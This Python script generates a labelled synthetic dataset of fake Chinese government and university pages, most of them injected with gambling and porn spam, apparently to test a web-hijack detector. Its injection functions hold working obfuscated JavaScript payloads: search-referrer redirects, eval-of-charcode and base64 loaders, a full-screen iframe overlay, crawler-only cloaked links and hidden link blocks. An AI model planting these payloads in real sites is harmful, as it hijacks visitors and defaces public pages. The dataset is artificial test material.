#!/usr/bin/env python3
"""synthetic-v52 (keeper k52s): 40 pages, 28 hijacked, 12 clean (4 legit), written to ../synthetic-v52/.
usage: python3 make_set.py [OUT_DIR]   Fixed seed, no clock or environment input: a re-run is byte-identical."""
import json
import random
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from articles import ARTICLES, LEGIT  # noqa: E402
from templates import TEMPLATES  # noqa: E402

SEED = 520052
OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE.parent / "synthetic-v52"

# ---------------------------------------------------------------- brands and spam hosts (all invented)
BRANDS = {
    "SA": "鎏金汇彩城", "SD1": "霓峦棋牌", "SD2": "骐骥竞技",
    "S1": "乐玺国际", "S2": "汇鼎娱乐城", "S6": "沐晟真人", "S7": "蓝钻电玩城",
    "S9a": "瀚海娛樂", "S9b": "翡冷翠博彩", "S10": "夜蝶影院", "S11": "博闻彩讯",
    "S13": "渝泰彩乐", "S15": "皓月棋牌", "S16": "琥珀体育", "S18": "朗峰真人",
}
HOSTS = {
    "SA": "lj8hc.vip", "SB": "zq7vd3.com", "SC": "cdn-jsq51.net", "SD1": "xl6qp.cc", "SD2": "xqty73.com",
    "S1": "lxgj5x.com", "S2": "hd3ylc.net", "S3": "go.rdt62k.com", "S4": "wpi-cdn7.org", "S5": "mk2tz9.top",
    "S6": "mscr86.com", "S7": "lzdwc4.cc", "S8": "h5ovl3.xyz", "S9": "hhyl9t.com", "S10": "ydyy8s.top",
    "S11": "bwcx2a.com", "S12": "frm9q4.cc", "S13": "ytcl6.vip", "S14": "sxq4n.com", "S15": "hyqp7e.net",
    "S16": "hpty5k.com", "S17": "zzy3m8.net", "S18": "lfzr4c.com",
}

# How the node check visits a code page (validate_v52s.py --node): user agent, referrer, cookie, hour;
# and what the code must do: navigate / script (adds a script whose src is on target) / iframe / write.
PC_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
PHONE_UA = "Mozilla/5.0 (Linux; Android 13; V2219A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Mobile Safari/537.36"
SPIDER_UA = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
BAIDU_REF = "https://www.baidu.com/link?url=Qx3&wd=&eqid=9f0a"
GOOGLE_REF = "https://www.google.com/"
TRIGGERS = {
    "search-referrer-redirect-title-restore": dict(ua=PC_UA, referrer=BAIDU_REF, cookie="", hour=10, act="navigate"),
    "mobile-search-hour-counter-redirect": dict(ua=PHONE_UA, referrer=BAIDU_REF, cookie="_pv_zz=3", hour=20, act="navigate"),
    "script-src-in-headline": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="script"),
    "cookie-gated-load-redirect": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="navigate"),
    "charcode-eval-script-writer": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="script"),
    "meta-refresh-takeover": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="refresh"),
    "base64-overlay-iframe": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="iframe"),
    "bracket-docwrite-iframe": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="iframe"),
    "docwrite-hidden-links": dict(ua=PC_UA, referrer="", cookie="", hour=10, act="write"),
    "external-loader-referrer-redirect": dict(ua=PC_UA, referrer=GOOGLE_REF, cookie="", hour=10, act="navigate"),
    "spider-only-escaped-docwrite": dict(ua=SPIDER_UA, referrer="", cookie="", hour=10, act="write"),
}


def hexesc(s):
    return "".join("\\x%02x" % ord(c) for c in s)


def uesc(s):
    return "".join("%%u%04x" % ord(c) for c in s)


def b64(s):
    import base64
    return base64.b64encode(s.encode("ascii")).decode("ascii")


# ---------------------------------------------------------------- injections
def inj_SA(art):
    b, h = BRANDS["SA"], HOSTS["SA"]
    t_title = "".join("\\u%04x" % ord(c) for c in art["title"])
    code = ('<script type="text/javascript">(function(){var _s=["%s","%s","%s","%s","%s"],_r=document.referrer.toLowerCase(),_i;'
            'for(_i=0;_i<_s.length;_i++){if(_r.indexOf(_s[_i])!==-1){window.location.replace("%s");return;}}'
            'document.title="%s";})();</script>') % (
        hexesc("baidu"), hexesc("sogou"), hexesc("so.com"), hexesc("sm.cn"), hexesc("bing"),
        hexesc("https://%s/?c=zf08" % h), t_title)
    head = ('<meta name="keywords" content="%s,%s官网,%s app下载,在线购彩" />\n'
            '<meta name="description" content="%s官网为您提供安全便捷的在线购彩服务，注册即可领取新人礼包。" />\n%s') % (b, b, b, b, code)
    return dict(inj=dict(head=head, title_text="%s官网-%s app下载-正规购彩平台" % (b, b)),
                spam=["%s官网" % b, "%s app下载" % b], forms=["keyword-title", "search-referrer-redirect-title-restore"],
                marker='window.location.replace("%s' % hexesc("https://"), target=h,
                pos=["<title>", "<head> meta", "<head> script"])


def inj_SB(art):
    h = HOSTS["SB"]
    code = ('<script>(function(w,d){var h=[0,0,0,0,0,0,0,0,0,0,0,0,1,1,0,0,0,0,1,1,1,1,1,1],u=navigator.userAgent,r=d.referrer,'
            'm=/android|iphone|ipad|mobile|ucbrowser|micromessenger/i,s=/baidu|sogou|so\\.com|sm\\.cn|toutiao/i,k="_pv_zz",c=0,'
            'x=d.cookie.match(new RegExp(k+"=(\\\\d+)"));if(x)c=parseInt(x[1],10);d.cookie=k+"="+(c+1)+";path=/;max-age=86400";'
            'if(!m.test(u)||!s.test(r))return;if(!h[new Date().getHours()]&&c<3)return;'
            'w.setTimeout(function(){w.location.href="%s";},600);})(window,document);</script>') % hexesc("https://%s/m/?ch=gov" % h)
    return dict(inj=dict(head=code), spam=[], forms=["mobile-search-hour-counter-redirect"],
                marker='var h=[0,0,0,0,0,0,0,0,0,0,0,0,1,1', target=h, pos=["<head> script"])


def inj_SC(art):
    h = HOSTS["SC"]
    one = "<script src=https://%s/site.js></script>" % h
    return dict(inj=dict(h1_extra=one * 3), spam=[], forms=["script-src-in-headline"],
                marker=one, target=h, pos=["headline"])


def inj_SD(art):
    b1, b2, h1, h2 = BRANDS["SD1"], BRANDS["SD2"], HOSTS["SD1"], HOSTS["SD2"]
    links = ['<a href="https://www.%s/" target="_blank">%s</a>' % (h1, b1),
             '<a href="https://www.%s/" target="_blank">%s</a>' % (h2, b2)]
    hidden = ('<div style="position:absolute;top:-1500px;left:-1500px;width:1px;height:1px;overflow:hidden">'
              '<a href="https://www.%s/">%s官方网站</a> <a href="https://www.%s/">%s在线投注</a> '
              '<a href="https://www.%s/reg">%s新会员礼包</a></div>') % (h1, b1, h2, b2, h1, b1)
    return dict(inj=dict(links_extra=links, body_end=hidden),
                spam=[b1, b2, "%s官方网站" % b1, "%s在线投注" % b2, "%s新会员礼包" % b1],
                forms=["sold-friend-links", "offscreen-link-block"], marker=None, target=None,
                pos=["friend-links row", "end of body"])


def single(key, art):
    b = BRANDS.get(key)
    h = HOSTS[key]
    if key == "S1":
        return dict(inj=dict(title_text="%s_%s官网_%s手机版_百家乐娱乐平台" % (b, b, b),
                             head='<meta name="keywords" content="%s,%s官网,%s手机版" />' % (b, b, b)),
                    spam=["%s官网" % b, "%s手机版" % b], forms=["keyword-stuffed-title"], pos=["<title>", "<head> meta"])
    if key == "S2":
        return dict(inj=dict(src_shown="%s官方网站" % b), spam=["%s官方网站" % b], forms=["spam-publisher-in-xxgk-table"],
                    pos=["信息公开 table"], null_source=True)
    if key == "S3":
        host = list(h)
        code = ('<script>(function(){var ck=document.cookie||"";'
                'if(ck.indexOf("_xsrf_uid=")>-1)return;var e=new Date();e.setTime(e.getTime()+864e5);'
                'document.cookie="_xsrf_uid=1;expires="+e.toUTCString()+";path=/";'
                'function go(){window.location.href="https://"+%s.join("")+"/afu.php?zoneid=3377"}'
                'if(document.readyState==="complete"){go()}else{window.addEventListener("load",go)}})();</script>') % json.dumps(host, separators=(",", ":"))
        return dict(inj=dict(body_end=code), spam=[], forms=["cookie-gated-load-redirect"],
                    marker='if(ck.indexOf("_xsrf_uid=")>-1)return;', pos=["end of body"])
    if key == "S4":
        payload = "document.write('<script src=\"https://%s/jq.min.js?ver=3.7\"><\\/script>');" % h
        code = ('<noindex><script id="wpinfo-pst3" type="text/javascript">eval(String.fromCharCode(%s));</script></noindex>'
                % ",".join(str(ord(c)) for c in payload))
        return dict(inj=dict(content_end=code), spam=[], forms=["charcode-eval-script-writer"],
                    marker='<script id="wpinfo-pst3" type="text/javascript">eval(String.fromCharCode(', pos=["end of article body"])
    if key == "S5":
        return dict(inj=dict(head='<meta http-equiv="refresh" content="3;URL=https://%s/?t=zx">' % h), spam=[],
                    forms=["meta-refresh-takeover"], marker='<meta http-equiv="refresh" content="3;URL=https://%s' % h,
                    pos=["<head> meta"])
    if key == "S6":
        s = "推荐登录%s（www.%s），注册即送体验金，真人视讯、体育赛事一站畅玩。" % (b, h)
        return dict(inj=dict(paras_insert=[(1, "<p>%s</p>" % s)]), spam=[b, "www.%s" % h], forms=["spliced-spam-paragraph"],
                    pos=["article body"])
    if key == "S7":
        return dict(inj=dict(footer='<p class="exp-support">技术支持：<a href="https://www.%s/" target="_blank">%s</a></p>' % (h, b)),
                    spam=[b], forms=["brand-credit-footer"], pos=["footer"])
    if key == "S8":
        js = ('(function(){var f=document.createElement("iframe");f.src="https://%s/m/";'
              'f.style.cssText="position:fixed;top:0;left:0;width:100%%;height:100%%;border:0;z-index:2147483647;background:#fff";'
              '(document.body||document.documentElement).appendChild(f);})();') % h
        return dict(inj=dict(body_top='<script type="text/javascript">eval(atob("%s"));</script>' % b64(js)), spam=[],
                    forms=["base64-overlay-iframe"], marker='eval(atob("%s' % b64(js)[:24], pos=["top of body"])
    if key == "S9":
        ba, bb = BRANDS["S9a"], BRANDS["S9b"]
        m = ('<marquee height="1" width="1" scrollamount="9999" style="overflow:hidden;position:absolute">'
             '<a href="https://www.%s/">%s官網</a> <a href="https://www.%s/tw/">%s線上投注</a> '
             '<a href="https://www.%s/app/">%s手機版</a></marquee>') % (h, ba, h, bb, h, ba)
        return dict(inj=dict(body_top=m), spam=["%s官網" % ba, "%s線上投注" % bb, "%s手機版" % ba],
                    forms=["marquee-hidden-links-traditional"], pos=["top of body"])
    if key == "S10":
        line = ('<div style="font-size:12px;line-height:16px;color:#999;text-align:center">'
                '%s 午夜私享剧场 蝶影无删减版 <a href="https://www.%s/">www.%s</a></div>') % (b, h, h)
        return dict(inj=dict(body_top=line), spam=["%s 午夜私享剧场" % b, "蝶影无删减版", "www.%s" % h],
                    forms=["porn-keyword-line-top"], pos=["top of body"])
    if key == "S11":
        return dict(inj=dict(author_shown="%s编辑部" % b), spam=["%s编辑部" % b], forms=["spam-author"],
                    pos=["byline 撰稿"], null_author=True)
    if key == "S12":
        code = ('<script>var _w=window,_d=_w["docu"+"ment"];_d["wr"+"ite"]("<ifr"+"ame src=\'https://"+"%s"+"/h5/\' width=\'100%%\' '
                'height=\'2000\' frameborder=\'0\' scrolling=\'no\'></ifr"+"ame>");</script>') % h
        return dict(inj=dict(content_end=code), spam=[], forms=["bracket-docwrite-iframe"],
                    marker='_d["wr"+"ite"]("<ifr"+"ame src=', pos=["end of article body"])
    if key == "S13":
        code = ('<script type="text/javascript">document.write(\'<div class="exp-hot" style="display:none">'
                '<a href="https://www.%s/">%s开户</a> <a href="https://www.%s/reg.html">%s注册</a> '
                '<a href="https://www.%s/app.html">%s客户端</a></div>\');</script>') % (h, b, h, b, h, b)
        return dict(inj=dict(body_end=code), spam=["%s开户" % b, "%s注册" % b, "%s客户端" % b],
                    forms=["docwrite-hidden-links"], pos=["end of body"])
    if key == "S14":
        code = ('<script src="https://%s/cn.js" charset="utf-8"></script>\n<script>if(/google\\.|baidu\\.|bing\\./.test(document.referrer)'
                '&&!window.__cn){setTimeout(function(){location.replace("https://%s/r/?p="+encodeURIComponent(location.pathname))},300)}</script>') % (h, h)
        return dict(inj=dict(head=code), spam=[], forms=["external-loader-referrer-redirect"],
                    marker='<script src="https://%s/cn.js"' % h, pos=["<head> script"])
    if key == "S15":
        blk = ('<div style="display:none"><a href="https://www.%s/">%s</a> <a href="https://www.%s/dl/">%s下载</a> '
               '<a href="https://www.%s/vip/">%s VIP</a></div>') % (h, b, h, b, h, b)
        return dict(inj=dict(after_html=blk), spam=[b, "%s下载" % b], forms=["after-html-hidden-links"], pos=["after </html>"])
    if key == "S16":
        return dict(inj=dict(sitename="%s-官方入口" % b, title_text="%s-官方入口-%s" % (b, art["title"])),
                    spam=["%s-官方入口" % b], forms=["header-name-spam", "spam-title-prefix"], pos=["header site name", "<title>"])
    if key == "S17":
        html = ('<ul class="sp-kw" style="margin-left:-4096px;height:0;overflow:hidden"><li><a href="https://www.%s/">%s</a></li></ul>' % (h, "凤尾竹娱乐官网"))
        code = ('<script>if(/spider|bot|slurp|sogou/i.test(navigator.userAgent)){document.write(unescape("%s"));}</script>' % uesc(html))
        return dict(inj=dict(body_end=code), spam=[], forms=["spider-only-escaped-docwrite"],
                    marker='if(/spider|bot|slurp|sogou/i.test(navigator.userAgent)){document.write(unescape("', pos=["end of body"])
    if key == "S18":
        span = '<p><span style="font-size:0px;line-height:0">%s视讯馆 www.%s</span></p>' % (b, h)
        return dict(inj=dict(src_shown="%s资讯" % b, paras_insert=[(2, span)]),
                    spam=["%s资讯" % b, "%s视讯馆" % b], forms=["spam-source-byline", "font0-span-in-body"],
                    pos=["byline 来源", "article body"], null_source=True)
    raise KeyError(key)


# ---------------------------------------------------------------- sites
LINKS_GOV = [("中国政府网", "https://www.gov.cn/"), ("国家政务服务平台", "https://gjzwfw.www.gov.cn/")]
LINKS_EDU = [("教育部", "http://www.moe.gov.cn/"), ("中国高校人文社会科学信息网", "https://www.sinoss.net/")]
NAV_GOV = [("首页", "index"), ("政务动态", "zwdt"), ("信息公开", "xxgk"), ("政务服务", "zwfw"), ("互动交流", "hdjl")]
NAV_EDU = [("首页", "index"), ("学校要闻", "xxyw"), ("综合新闻", "zhxw"), ("媒体报道", "mtbd"), ("校园文化", "xywh")]
NAV_TOWN = [("首页", "index"), ("镇村动态", "zcdt"), ("便民服务", "bmfw"), ("通知公告", "tzgg")]
NAV_ASSOC = [("首页", "index"), ("工作动态", "gzdt"), ("政策法规", "zcfg"), ("办事指南", "bszn")]


def mk_site(rng, host, name, kind, owner=None, place=None):
    side_edu = ["学校召开本学期教学工作会议", "校领导走访慰问一线教职工", "我校学子获省级创新创业大赛奖项", "校园开放日活动顺利举行"]
    nav = {"gov": NAV_GOV, "edu": NAV_EDU, "town": NAV_TOWN, "assoc": NAV_ASSOC}[kind]
    sec = {"gov": ("政务动态", "zwdt"), "edu": ("综合新闻", "zhxw"), "town": ("镇村动态", "zcdt"), "assoc": ("工作动态", "gzdt")}[kind]
    prov = rng.choice(["湘", "赣", "皖", "黔", "闽", "鄂", "滇", "桂"])
    return dict(host=host, name=name, kind=kind, owner=owner or name, place=place or name, nav=nav, sec=sec,
                links=LINKS_EDU if kind == "edu" else LINKS_GOV,
                icp="%sICP备%08d号-%d" % (prov, rng.randint(10000000, 29999999), rng.randint(1, 3)),
                ga="%s公网安备 %d号" % (prov, rng.randint(43000000000000, 45999999999999)),
                wzbs="%010d" % rng.randint(4300000000, 4599999999), topic=rng.choice(["综合政务", "城乡建设", "卫生健康", "公共安全"]),
                parent=host.replace("news.", "www."), side=side_edu, addr=(place or name) + rng.choice(["人民路", "建设路", "文昌路", "迎宾大道", "学府路"]) + "%d号" % rng.randint(1, 299), tel="0%d-%d" % (rng.randint(730, 799), rng.randint(5200000, 8899999)),
                motto=rng.choice(["厚德 强技 笃行 创新", "明德 尚能 知行合一", "立德树人 技能强校"]))


SITES = {  # site key: template, host, name, kind, hijacked pages count
    "SA": ("E1", "www.xiuxixian.gov.cn", "岫溪县人民政府", "gov", "岫溪县"),
    "SB": ("Z2", "www.hengpushi.gov.cn", "衡浦市人民政府", "gov", "衡浦市"),
    "SC": ("O3", "news.chenghu.edu.cn", "澄湖大学", "edu", "澄湖大学"),
    "SD": ("R4", "www.tcvtc.edu.cn", "桐川职业技术学院", "edu", "桐川职业技术学院"),
}
SITE_HIJ = {"SA": 3, "SB": 3, "SC": 2, "SD": 2}
SITE_LEGIT = {"SA": "l-fund", "SB": "l-police", "SC": "l-lecture"}
SINGLES = [  # key, template, host, name, kind, place
    ("S1", "E1", "www.baiquanxian.gov.cn", "柏泉县人民政府", "gov", "柏泉县"),
    ("S2", "Z2", "www.yunjiangshi.gov.cn", "筠江市人民政府", "gov", "筠江市"),
    ("S3", "O3", "news.qlnu.edu.cn", "青麓师范大学", "edu", "青麓师范大学"),
    ("S4", "R4", "www.jhpolytech.edu.cn", "枧河职业学院", "edu", "枧河职业学院"),
    ("S5", "A5", "www.shibuzhen.gov.cn", "石埠镇人民政府", "town", "石埠镇"),
    ("S6", "C6", "www.lhxajxh.org.cn", "岚和县安全生产协会", "assoc", "岚和县"),
    ("S7", "E1", "www.yanlingxian.gov.cn", "砚岭县人民政府", "gov", "砚岭县"),
    ("S8", "Z2", "www.zhuoyangshi.gov.cn", "涿阳市人民政府", "gov", "涿阳市"),
    ("S9", "O3", "news.wltu.edu.cn", "皖岭理工大学", "edu", "皖岭理工大学"),
    ("S10", "R4", "www.ylhsvc.edu.cn", "榆林湾卫生职业学院", "edu", "榆林湾卫生职业学院"),
    ("S11", "A5", "www.guantangzhen.gov.cn", "官塘镇人民政府", "town", "官塘镇"),
    ("S12", "C6", "tjj.fengchengxian.gov.cn", "枫城县统计局", "assoc", "枫城县"),
    ("S13", "E1", "www.hejiaxian.gov.cn", "禾嘉县人民政府", "gov", "禾嘉县"),
    ("S14", "Z2", "www.nanxunshi.gov.cn", "南浔口市人民政府", "gov", "南浔口市"),
    ("S15", "O3", "news.cyxy.edu.cn", "沧渊学院", "edu", "沧渊学院"),
    ("S16", "R4", "www.brjdvc.edu.cn", "北嵘机电职业学院", "edu", "北嵘机电职业学院"),
    ("S17", "A5", "www.lushuizhen.gov.cn", "鹭水镇人民政府", "town", "鹭水镇"),
    ("S18", "C6", "scjg.qichuanxian.gov.cn", "淇川县市场监督管理局", "assoc", "淇川县"),
    ("L1", "A5", "www.majiazhen.gov.cn", "麻家镇人民政府", "town", "麻家镇"),
    ("C1", "C6", "www.tangyuanxian-xh.org.cn", "棠源县个体劳动者协会", "assoc", "棠源县"),
]
SITE_ARTS = {"SA": ["g-water", "g-elder", "g-farm", "g-biz"], "SB": ["g-road", "g-flood", "g-med", "g-env"],
             "SC": ["u-lab", "u-grad", "u-lib", "u-coop"], "SD": ["v-skill", "v-job", "v-prac", "v-safe", "u-vol"]}
SINGLE_ARTS = {"S1": "g-school", "S2": "g-fire", "S3": "u-sport", "S4": "v-teach", "S5": "t-vill", "S6": "a-train",
               "S7": "g-tax", "S8": "g-cul", "S9": "u-intl", "S10": "v-cert", "S11": "t-crop", "S12": "a-stat",
               "S13": "g-bus", "S14": "g-job", "S15": "u-aid", "S16": "v-lib", "S17": "t-med", "S18": "a-credit",
               "L1": "l-sports", "C1": "g-food"}
SURN = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾肖田董袁潘于蒋蔡余杜叶程苏魏吕丁任沈姚卢姜崔钟谭陆汪范金石廖贾夏韦付方白邹孟熊秦邱江尹薛闫段雷侯龙史陶黎贺顾毛郝龚邵万钱严覃武戴莫孔向汤"
GIVEN = ["建国", "晓燕", "海涛", "丽娟", "志强", "文博", "雪梅", "国华", "佳怡", "子涵", "明轩", "秀英", "春生", "宇航", "玉兰",
         "思远", "振华", "婷婷", "俊杰", "凤霞", "立新", "雨萱", "德明", "红梅", "家豪", "静怡", "永刚", "慧敏"]


def person(rng):
    return rng.choice(SURN) + rng.choice(GIVEN)


def fill(rng, tpl, site):
    v = dict(P=site["place"], O=site["place"], n1=rng.randint(6, 48), n2=rng.randint(120, 980), n3=rng.randint(5, 26),
             n4=rng.randint(2, 9), pct=rng.randint(86, 99))
    if site["kind"] == "edu" and "{P}" in "".join([tpl["title"]] + tpl["paras"]):
        v["P"] = rng.choice(["梅岭县", "汀洲区", "古渠县"])
    f = lambda s: s.format(**v)  # noqa: E731
    return f(tpl["title"]), [f(p) for p in tpl["paras"]], f(tpl["src"])


def main():
    rng = random.Random(SEED)
    arts = {a["key"]: a for a in ARTICLES + LEGIT}
    plan = []  # (site_key or single key, template, site, article key, hijack-injection key or None, legit)
    sites = {}
    for sk, (tk, host, name, kind, place) in SITES.items():
        sites[sk] = mk_site(rng, host, name, kind, place=place)
        keys = list(SITE_ARTS[sk])
        if sk in SITE_LEGIT:
            keys.insert(3, SITE_LEGIT[sk])
        for i, ak in enumerate(keys):
            hij = i in ((0, 2, 4) if SITE_HIJ[sk] == 3 else (0, 2))
            plan.append((sk, tk, sites[sk], ak, sk if hij else None, arts[ak].get("legit", False)))
    for key, tk, host, name, kind, place in SINGLES:
        s = mk_site(rng, host, name, kind, place=place)
        plan.append((key, tk, s, SINGLE_ARTS[key], key if key.startswith("S") else None, arts[SINGLE_ARTS[key]].get("legit", False)))
    order = list(range(len(plan)))
    rng.shuffle(order)
    out_html = OUT / "html"
    out_html.mkdir(parents=True, exist_ok=True)
    rows = []
    for n, pi in enumerate(order, 1):
        sk, tk, site, ak, ik, legit = plan[pi]
        pid = "sv52-%03d" % n
        title, paras, src = fill(rng, arts[ak], site)
        if site["kind"] in ("edu",) and not src.startswith(site["place"]):
            pass
        y = 2025
        mo = rng.randint(3, 11)
        da = rng.randint(1, 28)
        date = "%d-%02d-%02d" % (y, mo, da)
        has_author = tk not in ("Z2",) and rng.random() < 0.75
        art = dict(title=title, paras=paras, source=src, author=person(rng) if has_author else None, editor=person(rng),
                   date=date, time="%02d:%02d" % (rng.randint(8, 18), rng.randint(0, 59)), views=rng.randint(80, 3999),
                   num=rng.randint(1000, 9999), index_no="%s/%d-%05d" % ("".join(rng.choice("0123456789ABCDEF") for _ in range(9)), y, rng.randint(1, 9999)),
                   img=None)
        if tk == "R4" and art["author"] is None:
            art["author"] = person(rng)
        if ik is None:
            spec = dict(inj={}, spam=[], forms=[], marker=None, target=None, pos=[])
        elif ik in ("SA", "SB", "SC", "SD"):
            spec = {"SA": inj_SA, "SB": inj_SB, "SC": inj_SC, "SD": inj_SD}[ik](art)
        else:
            spec = single(ik, art)
            spec.setdefault("marker", None)
            if spec["marker"] is not None or any(f in TRIGGERS for f in spec["forms"]):
                spec.setdefault("target", HOSTS[ik])
            spec.setdefault("target", None)
        render, enc = TEMPLATES[tk]
        page = render(site, art, spec["inj"])
        data = page.encode(enc)  # strict: every character must exist in the page encoding
        (out_html / ("%s.html" % pid)).write_bytes(data)
        path = {"gov": "zwdt/%d%02d/t%d%02d%02d_%d.html" % (y, mo, y, mo, da, art["num"]),
                "town": "zcdt/%d.html" % art["num"], "assoc": "gzdt/%d/%d.html" % (y, art["num"]),
                "edu": "info/%d/%d.htm" % (art["num"] // 10, art["num"])}[site["kind"]]
        if tk == "Z2":
            path = "xxgk/%s/%d%02d/t%d%02d%02d_%d.html" % (site["sec"][1], y, mo, y, mo, da, art["num"])
        where = ("site %s" % sk) if sk in SITES else "single page"
        what = ("hijacked (%s)" % ", ".join(spec["forms"])) if ik else ("clean page, legit (lawful lottery/gambling topic)" if legit else "clean page")
        rows.append(dict(
            id=pid, url="https://%s/%s" % (site["host"], path), title=title, date=date,
            source=None if spec.get("null_source") else src,
            author=None if spec.get("null_author") else art["author"],
            text="\n".join(paras), hijacked=ik is not None, injections=spec["forms"], spam_strings=spec["spam"],
            legit=bool(legit), lang="zh",
            origin="synthetic: %s (%s), template %s, %s; injection modelled on the cases in synthetic-generator-v52/SOURCES.md"
                   % (where, site["host"], tk, what) if ik else "synthetic: %s (%s), template %s, %s" % (where, site["host"], tk, what),
            kind="synthetic", site=site["host"], capture="html", encoding=enc, template=tk,
            marker=spec.get("marker"), target=spec.get("target"), positions=spec.get("pos", [])))
    with open(OUT / "truth.jsonl", "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d pages to %s" % (len(rows), OUT))


if __name__ == "__main__":
    main()
